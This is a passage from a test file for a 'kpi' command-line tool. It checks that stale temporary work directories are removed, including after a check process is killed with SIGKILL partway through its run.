    utimesSync(old, twoDaysAgo, twoDaysAgo);
    expect(await removeStaleWork(root)).toBe(1);
    expect([existsSync(old), existsSync(young)]).toEqual([false, true]);
    // The real thing: a check stopped with kill -9 while its worker parses.
    const inbox = await exampleInbox();
    const child = spawn(
      process.execPath,
      [
        join(import.meta.dirname, '..', 'bin', 'kpi.js'),
        'check',
        '--inbox',
        inbox,
        '--out',
        join(root, 'out'),
      ],
      { env: { PATH: process.env.PATH, KPI_PSEUDONYM_KEY: TEST_KEY, TMPDIR: root }, stdio: 'ignore' },
    );
    await new Promise((r) => setTimeout(r, 1500));
    child.kill('SIGKILL');
    await new Promise((r) => child.on('exit', r));
    const left = readdirSync(root).filter((n) => n.startsWith('kpi-check-') && n !== 'kpi-check-young');
    for (const n of left) utimesSync(join(root, n), twoDaysAgo, twoDaysAgo);
    await removeStaleWork(root);
    expect(readdirSync(root).filter((n) => n.startsWith('kpi-check-'))).toEqual(['kpi-check-young']);
    expect(tmpdir()).not.toBe(root);
  });
});
